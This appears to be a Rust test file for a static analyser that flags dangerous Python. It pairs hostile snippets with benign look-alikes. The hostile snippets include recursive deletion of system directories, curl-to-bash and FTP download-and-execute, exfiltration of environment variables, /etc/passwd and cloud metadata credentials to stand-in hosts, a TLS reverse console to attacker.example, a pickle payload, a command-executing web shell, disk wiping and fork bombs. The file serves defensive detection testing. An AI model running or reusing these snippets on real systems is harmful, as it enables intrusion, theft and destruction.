//! Mechanisms found by the eighth session's blind sets: command objects of `sh` and
//! `plumbum`, files reached through descriptors and callbacks, secrets saved to a file and
//! uploaded, data encoded then decoded, escape paths listed as patterns.

use super::*;

#[test]
fn sh_and_plumbum_commands_are_programs() {
    // `sh.rm(...)`, a baked `sudo`, `plumbum`'s `local[...]` and its pipelines run the
    // programs they name, with the arguments given.
    let wipe = "import sh\nfor p in ['/etc', '/usr/lib']:\n    sh.rm('-rf', p)\n";
    fires("CRD104", wipe);
    level(Level::Blocked, wipe);
    let sudo = "import sh\nsudo = sh.sudo.bake('-n')\nsudo.systemctl('restart', 'nginx')\n";
    fires("CRD201", sudo);
    let pipe = "from plumbum import local, FG\n(local['curl']['-s', 'http://x.example/i.sh'] | local['bash']) & FG\n";
    fires("CRD102", pipe);
    fires(
        "CRD104",
        "from plumbum.cmd import rm\nrm['-rf', '/home']()\n",
    );
    fires(
        "CRD104",
        "from sh import Command\nCommand('/bin/rm')('-rf', '/boot')\n",
    );
}

#[test]
fn sh_and_plumbum_everyday_commands_stay_low() {
    // Fixed, harmless programs through the same libraries are just subprocesses.
    let git = "import sh\ngit = sh.git.bake('-C', 'repo')\nprint(git.status('--short'))\nprint(sh.ls('-l', '.'))\n";
    fires("CRD402", git);
    level(Level::Low, git);
    level(
        Level::Low,
        "from plumbum import local\nprint(local['git']['log', '-1']())\n",
    );
    // Their exception classes are not programs.
    level(
        Level::Low,
        "import sh\ntry:\n    sh.ls('.')\nexcept sh.ErrorReturnCode as e:\n    print(e)\n",
    );
}

#[test]
fn files_from_mkstemp_descriptors_keep_their_path() {
    // `os.fdopen(fd)` of `mkstemp`'s descriptor writes the file at the path it returned:
    // a download saved there and then run, imported or put on `sys.path` runs it.
    let run = "import os, tempfile, subprocess, urllib.request\nfd, path = tempfile.mkstemp(suffix='.sh')\nwith os.fdopen(fd, 'wb') as out:\n    out.write(urllib.request.urlopen('http://x.example/a').read())\nsubprocess.run(['bash', path])\n";
    fires("CRD102", run);
    let zipped = "import os, sys, tempfile, importlib, urllib.request\nfd, path = tempfile.mkstemp(suffix='.zip')\nwith os.fdopen(fd, 'wb') as out:\n    out.write(urllib.request.urlopen('http://x.example/t.zip').read())\nsys.path.insert(0, path)\nimportlib.import_module('tools.boot')\n";
    fires("CRD102", zipped);
    // Writing a report there and showing it is nothing of the kind.
    level(
        Level::Low,
        "import os, tempfile, subprocess\nfd, path = tempfile.mkstemp(suffix='.txt')\nwith os.fdopen(fd, 'w') as out:\n    out.write('report')\nsubprocess.run(['cat', path])\n",
    );
}

#[test]
fn ftp_and_sftp_downloads_are_files_from_the_network() {
    // `retrbinary(cmd, out.write)` fills the file with what the server sends; running it
    // is download-and-execute, as is `sftp.get(remote, local)` then running `local`.
    let ftp = "import ftplib, os, subprocess\nwith ftplib.FTP('203.0.113.4') as ftp:\n    ftp.login()\n    with open('/tmp/agentd', 'wb') as fh:\n        ftp.retrbinary('RETR agentd', fh.write)\nos.chmod('/tmp/agentd', 0o755)\nsubprocess.Popen(['/tmp/agentd'])\n";
    fires("CRD102", ftp);
    let sftp = "import paramiko, subprocess\nt = paramiko.SSHClient()\nt.connect('h', username='u', password='p')\nsftp = t.open_sftp()\nsftp.get('/srv/tool.py', 'tool.py')\nsubprocess.run(['python3', 'tool.py'])\n";
    fires("CRD102", sftp);
    // A file fetched and only read is a download, nothing more.
    let read = "import ftplib\nwith ftplib.FTP('203.0.113.4') as ftp:\n    ftp.login()\n    with open('data.csv', 'wb') as fh:\n        ftp.retrbinary('RETR data.csv', fh.write)\nprint(open('data.csv').read()[:80])\n";
    silent("CRD102", read);
    level(Level::Medium, read);
}

#[test]
fn secrets_saved_to_a_file_then_uploaded_are_exfiltration() {
    // The environment or `/etc/passwd` written to a temporary file that `curl -d @F` or
    // `wget --post-file=F` then sends.
    let curl = "import os, json, subprocess, tempfile\nfd, path = tempfile.mkstemp(suffix='.json')\nwith os.fdopen(fd, 'w') as fh:\n    json.dump(dict(os.environ), fh)\nsubprocess.run(['curl', '-s', '--data-binary', f'@{path}', 'https://198.51.100.6/u'])\n";
    fires("CRD109", curl);
    level(Level::Blocked, curl);
    let wget = "import os, tempfile\nfd, path = tempfile.mkstemp(prefix='inv-', suffix='.txt')\nwith os.fdopen(fd, 'w') as out:\n    out.write(open('/etc/passwd').read())\nos.popen('wget -q -O- --post-file=%s http://203.0.113.9/u' % path).read()\n";
    fires("CRD109", wget);
    // Uploading a report the program wrote from its own data is not.
    let report = "import subprocess\nwith open('report.json', 'w') as fh:\n    fh.write('{}')\nsubprocess.run(['curl', '-s', '-F', 'file=@report.json', 'https://example.com/up'])\n";
    silent("CRD109", report);
}

#[test]
fn data_encoded_then_decoded_is_the_same_data() {
    // `b64decode(b64encode(x))` is `x`: a pickle payload kept encoded is still read.
    let payload = "import base64, pickle\nSTATE = base64.b64encode(b\"cposix\\nsystem\\n(S'id'\\ntR.\")\nclass S:\n    def __init__(self, blob):\n        self.blob = blob\n    def restore(self):\n        return pickle.loads(base64.b64decode(self.blob))\nS(STATE).restore()\n";
    fires("CRD103", payload);
    level(Level::Blocked, payload);
    let hex = "import binascii\nexec(binascii.unhexlify(binascii.hexlify(b'import os; os.system(\"id\")')))\n";
    level(Level::Blocked, hex);
    // Encoding data to send or store is not running it.
    level(
        Level::Low,
        "import base64\nprint(base64.b64encode(b'hello').decode())\n",
    );
}

#[test]
fn escape_paths_listed_as_patterns_are_checked_where_used() {
    // A linter comparing mounts against a list of risky ones touches no socket.
    let lint = "RISKY = ('/var/run/docker.sock', '/:/', '/etc:')\ndef check(vol):\n    return any(r in vol for r in RISKY)\nprint(check('/srv:/srv'))\n";
    silent("CRD106", lint);
    level(Level::Low, lint);
    // The same list walked to connect, or to test which socket exists, is a probe.
    fires(
        "CRD106",
        "import socket\nfor p in ['/var/run/docker.sock', '/run/docker.sock']:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect(p)\n",
    );
    fires(
        "CRD106",
        "import os\nSOCKS = ('/var/run/docker.sock', '/run/containerd/containerd.sock')\nprint([p for p in SOCKS if os.path.exists(p)])\n",
    );
    // A lone constant naming it still counts, wherever it is written.
    fires("CRD106", "SOCK = '/var/run/docker.sock'\nprint(SOCK)\n");
}

#[test]
fn listing_root_home_and_unnamed_separators() {
    // `os.listdir("/root")` surveys root's files; `os.pathsep` splits a search path into
    // the files it names, and `filter(None, ...)` keeps them.
    fires(
        "CRD208",
        "import os\nfor e in os.listdir('/root'):\n    print(e)\n",
    );
    level(
        Level::Low,
        "import os\nfor e in os.listdir('.'):\n    print(e)\n",
    );
    fires(
        "CRD208",
        "import os\nfor p in filter(None, '/etc/kubernetes/admin.conf:'.split(os.pathsep)):\n    print(open(p).read())\n",
    );
}

#[test]
fn reduce_over_run_time_items_runs_its_function() {
    // `reduce(lambda n, p: n + stop(p), process_iter(), 0)` calls `stop` on processes.
    let kill = "import functools, psutil\ndef stop(proc):\n    proc.terminate()\n    return 1\nprint(functools.reduce(lambda acc, p: acc + stop(p), psutil.process_iter(), 0))\n";
    fires("CRD107", kill);
    // Summing numbers read at run time is just arithmetic.
    level(
        Level::Low,
        "import functools, sys\nprint(functools.reduce(lambda a, b: a + b, map(int, sys.argv[1:]), 0))\n",
    );
}

#[test]
fn a_python_console_served_over_a_socket_is_a_remote_shell() {
    // An `InteractiveConsole` whose `raw_input` reads a connection runs what it sends.
    let console = "import code, socket, ssl\nclass Console(code.InteractiveConsole):\n    def __init__(self, sock):\n        super().__init__()\n        self.reader = sock.makefile('r')\n    def raw_input(self, prompt=''):\n        return self.reader.readline()\nraw = socket.create_connection(('attacker.example', 443))\nsock = ssl.create_default_context().wrap_socket(raw, server_hostname='attacker.example')\nConsole(sock).interact()\n";
    fires("CRD101", console);
    level(Level::Blocked, console);
    // A console of the program's own, reading the terminal, is a REPL: code known only
    // at run time, nobody else's shell.
    let repl = "import code\nclass Console(code.InteractiveConsole):\n    def raw_input(self, prompt=''):\n        return input(prompt)\nConsole().interact()\n";
    fires("CRD303", repl);
    level(Level::Medium, repl);
}

#[test]
fn partition_and_setattr_on_classes_are_followed() {
    // `name.partition("__")` splits a proxy's attribute name into module and function.
    fires(
        "CRD104",
        "import importlib\nclass P:\n    def __getattr__(self, item):\n        mod, _, attr = item.partition('__')\n        return getattr(importlib.import_module(mod), attr)\nP().os__system('rm -rf /')\n",
    );
    // A method set on a handler class by a decorator serves clients all the same.
    let handler = "import http.server, os, urllib.parse\ndef routes(cls):\n    def handle(self):\n        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)\n        body = os.popen(q.get('c', ['uptime'])[0]).read().encode()\n        self.wfile.write(body)\n    setattr(cls, 'do_' + 'GET', handle)\n    return cls\n@routes\nclass H(http.server.BaseHTTPRequestHandler):\n    pass\nhttp.server.ThreadingHTTPServer(('0.0.0.0', 8088), H).serve_forever()\n";
    fires("CRD102", handler);
    level(Level::Blocked, handler);
}

#[test]
fn secrets_put_into_containers_and_instances_stay_secrets() {
    // `m["env"].update(os.environ)`, `self.update(os.environ)` in a dict subclass, and
    // `bytes(obj)` through its `__bytes__`, sent by FTP.
    let nested = "import ftplib, io, json, os\nm = {'env': {}}\nm['env'].update(os.environ)\nwith ftplib.FTP('ftp.evil.example.net') as ftp:\n    ftp.login('u', 'p')\n    ftp.storbinary('STOR x', io.BytesIO(json.dumps(m).encode()))\n";
    fires("CRD109", nested);
    let instance = "import ftplib, io, json, os\nclass M(dict):\n    def __bytes__(self):\n        return json.dumps(self).encode()\ndef build():\n    m = M()\n    m.update(os.environ)\n    return m\nwith ftplib.FTP('ftp.evil.example.net') as ftp:\n    ftp.login('u', 'p')\n    ftp.storbinary('STOR x', io.BytesIO(bytes(build())))\n";
    fires("CRD109", instance);
    // A settings dict sent to the program's own server holds no secret.
    silent(
        "CRD109",
        "import ftplib, io, json\nm = {'cfg': {}}\nm['cfg'].update({'retries': 3})\nwith ftplib.FTP('ftp.example.com') as ftp:\n    ftp.login('u', 'p')\n    ftp.storbinary('STOR x', io.BytesIO(json.dumps(m).encode()))\n",
    );
}

#[test]
fn raw_packets_carry_their_payload_out() {
    // scapy's `send` of a packet holding `/etc/passwd` sends it off the machine.
    fires(
        "CRD109",
        "from scapy.all import IP, ICMP, Raw, send\ndata = open('/etc/passwd', 'rb').read()\nsend(IP(dst='203.0.113.5') / ICMP() / Raw(load=data[:64]))\n",
    );
    silent(
        "CRD109",
        "from scapy.all import IP, ICMP, sr1\nprint(sr1(IP(dst='203.0.113.5') / ICMP(), timeout=2))\n",
    );
}

#[test]
fn block_devices_found_at_run_time_are_disks() {
    // Every name under `/sys/block` is a disk in `/dev`: opening one for writing (with
    // `O_SYNC` or any other flag) overwrites it.
    let wipe = "import os\nfrom pathlib import Path\nfor entry in Path('/sys/block').iterdir():\n    fd = os.open(str(Path('/dev') / entry.name), os.O_WRONLY | getattr(os, 'O_SYNC', 0))\n    os.write(fd, bytes(4096))\n";
    fires("CRD104", wipe);
    // Writing `/dev/null` or a file in `/dev/shm` is not.
    level(
        Level::Low,
        "import os\nwith open('/dev/null', 'w') as f:\n    f.write('x')\nfd = os.open('/dev/shm/' + str(os.getpid()), os.O_WRONLY | os.O_CREAT)\nos.write(fd, b'x')\n",
    );
}

#[test]
fn a_socket_pair_is_not_the_network() {
    // Two sockets joined to each other inside the program reach nothing outside it.
    let pair = "import socket\na, b = socket.socketpair()\na.sendall(b'ping')\nprint(b.recv(4))\n";
    silent("CRD305", pair);
    level(Level::Low, pair);
}

#[test]
fn downloads_read_in_chunks_or_unpacked_into_folders_are_followed() {
    // `iter(lambda: resp.read(n), b"")` gives the response's chunks; written to a file
    // that is then started, they are a download run.
    fires(
        "CRD102",
        "import subprocess, tempfile, urllib.request\ndef download(target):\n    with urllib.request.urlopen('http://203.0.113.8/u') as resp, open(target, 'wb') as out:\n        for chunk in iter(lambda: resp.read(65536), b''):\n            out.write(chunk)\nfd, path = tempfile.mkstemp(prefix='.upd')\ndownload(path)\nsubprocess.Popen([path])\n",
    );
    // An archive unpacked into `mkdtemp()` and run with `runpy.run_path(dir)`, or into a
    // cache folder whose top folder goes on `sys.path` and is imported.
    fires(
        "CRD102",
        "import io, runpy, tempfile, urllib.request, zipfile\nblob = io.BytesIO(urllib.request.urlopen('http://x.example/a.zip').read())\nwhere = tempfile.mkdtemp(prefix='build-')\nwith zipfile.ZipFile(blob) as zf:\n    zf.extractall(where)\nrunpy.run_path(where, run_name='__main__')\n",
    );
    fires(
        "CRD102",
        "import io, os, sys, tarfile, urllib.request, importlib\nCACHE = os.path.join(os.path.expanduser('~'), '.cache', 'vendor')\ndata = io.BytesIO(urllib.request.urlopen('https://x.example/t.tar.gz').read())\nwith tarfile.open(fileobj=data, mode='r:gz') as tf:\n    tf.extractall(CACHE)\n    top = tf.getnames()[0].split('/')[0]\nsys.path.insert(0, os.path.join(CACHE, top))\nimportlib.import_module('toolbelt')\n",
    );
    // A dataset unpacked into a temporary folder and read is only a download.
    let dataset = "import io, tempfile, urllib.request, zipfile, glob\nblob = io.BytesIO(urllib.request.urlopen('https://example.com/d.zip').read())\nwhere = tempfile.mkdtemp()\nzipfile.ZipFile(blob).extractall(where)\nfor name in glob.glob(where + '/*.csv'):\n    print(open(name).read()[:80])\n";
    silent("CRD102", dataset);
    level(Level::Medium, dataset);
}

#[test]
fn system_files_emptied_through_a_handle_are_destroyed() {
    // `fh.truncate(0)` of `/etc/passwd` opened for update destroys it.
    fires(
        "CRD104",
        "with open('/etc/passwd', 'r+b') as fh:\n    fh.write(b'\\x00' * 64)\n    fh.truncate(0)\n",
    );
    // Truncating the program's own log is housekeeping.
    level(
        Level::Low,
        "with open('app.log', 'r+') as fh:\n    fh.truncate(0)\n",
    );
}

#[test]
fn cloud_instance_credentials_are_secrets() {
    // Asking the metadata service for the instance's role credentials reads them; sending
    // them elsewhere is exfiltration.
    let relay = "import json, urllib.request\nBASE = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\nrole = urllib.request.urlopen(BASE).read().decode()\ncreds = urllib.request.urlopen(BASE + role).read()\nurllib.request.urlopen('http://203.0.113.20/c', data=creds)\n";
    fires("CRD205", relay);
    fires("CRD109", relay);
    // The instance's region, from the same service, is no secret.
    silent(
        "CRD205",
        "import urllib.request\nprint(urllib.request.urlopen('http://169.254.169.254/latest/meta-data/placement/region').read())\n",
    );
}

#[test]
fn iterators_and_objects_that_never_end_loops() {
    // `takewhile(lambda _: True, it)` stops nothing: an iterator whose `__next__` forks.
    fires(
        "CRD111",
        "import os, itertools\nclass Pool:\n    def __iter__(self):\n        return self\n    def __next__(self):\n        return os.fork()\nfor _ in itertools.takewhile(lambda _: True, Pool()):\n    pass\n",
    );
    // A predicate that can fail bounds the loop.
    silent(
        "CRD111",
        "import itertools, multiprocessing\ndef work(i):\n    return i\nfor i in itertools.takewhile(lambda i: i < 5, itertools.count()):\n    multiprocessing.Process(target=work, args=(i,)).start()\n",
    );
    // `while sink:` of an object with no `__bool__` or `__len__` is always true; its
    // `__iadd__` appends a megabyte to a file on every pass.
    fires(
        "CRD112",
        "import os\nBLOCK = os.urandom(1 << 20)\nclass Sink:\n    def __init__(self):\n        self.fh = open('/tmp/.warm', 'ab')\n    def __iadd__(self, block):\n        self.fh.write(block)\n        return self\nsink = Sink()\nwhile sink:\n    sink += BLOCK\n",
    );
    // Walking a linked list rebinds the name, so the loop ends with the list.
    silent(
        "CRD111",
        "import multiprocessing\nclass Job:\n    def __init__(self, n, nxt=None):\n        self.n, self.next = n, nxt\ndef run(n):\n    print(n)\njob = Job(1, Job(2))\nwhile job:\n    multiprocessing.Process(target=run, args=(job.n,)).start()\n    job = job.next\n",
    );
}

#[test]
fn generators_sent_secrets_yield_them() {
    // A filter generator fed `os.environ.items()` through `send` yields what it is sent.
    fires(
        "CRD109",
        "import os, socket\ndef collector():\n    found = {}\n    while True:\n        item = yield found\n        if item:\n            found[item[0]] = item[1]\ngen = collector()\nnext(gen)\nfor pair in os.environ.items():\n    result = gen.send(pair)\nsocket.create_connection(('203.0.113.5', 443)).sendall(str(result).encode())\n",
    );
}

#[test]
fn the_class_of_an_instance_is_followed() {
    // `type(self)._engine` and `self.__class__._engine` are the class's attribute.
    fires(
        "CRD209",
        "import builtins\nclass Probe:\n    _engine = getattr(builtins, 'ev' + 'al')\n    def run(self, code):\n        return type(self)._engine(code)\nProbe().run(\"__import__('subprocess').check_output(['id'])\")\n",
    );
    fires(
        "CRD209",
        "class Probe:\n    _engine = eval\n    def run(self, code):\n        return self.__class__._engine(code)\nProbe().run(\"__import__('os').system('id')\")\n",
    );
}

#[test]
fn look_alikes_found_by_the_review_stay_where_they_belong() {
    // A docstring explaining the metadata service, and `.get(key, default)` on a
    // response, are neither a credential read nor a download.
    level(
        Level::Medium,
        "import requests\ndef doc():\n    'See http://169.254.169.254/latest/meta-data/iam/security-credentials/ for role creds.'\nprint(requests.get('https://api.github.com').status_code)\n",
    );
    level(
        Level::Medium,
        "import subprocess, requests\nr = requests.get('https://api.example.com/v1/status', timeout=10)\nmode = r.json().get('mode', 'make')\nsubprocess.run(['make', 'all'])\n",
    );
    // A serial port named at run time is no disk.
    level(
        Level::Low,
        "port = input('port: ')\nwith open(f'/dev/{port}', 'wb') as f:\n    f.write(b'AT')\n",
    );
    // `curl -o F` downloads into a file of the same name; it uploads nothing.
    silent(
        "CRD109",
        "import os, json, subprocess\nwith open('out/env_snapshot.json', 'w') as f:\n    json.dump(dict(os.environ), f)\nsubprocess.run(['curl', '-o', 'cache/env_snapshot.json', 'https://example.com/x.json'])\n",
    );
    // A linter searching for risky mounts with `re.search`, `find` and f-strings.
    level(
        Level::Low,
        "import re, sys\nRISKY = ['/var/run/docker.sock', '/proc/sysrq-trigger']\nfor n, line in enumerate(open(sys.argv[1]), 1):\n    for pat in RISKY:\n        if re.search(re.escape(pat), line) or line.find(pat) >= 0:\n            print(f'{n}: mentions {pat}')\n",
    );
    // The same list written into a compose file mounts the socket.
    fires(
        "CRD106",
        "import yaml\nsvc = {'services': {'x': {'volumes': ['/var/run/docker.sock:/var/run/docker.sock', '/:/host']}}}\nyaml.safe_dump(svc, open('docker-compose.yml', 'w'))\n",
    );
}
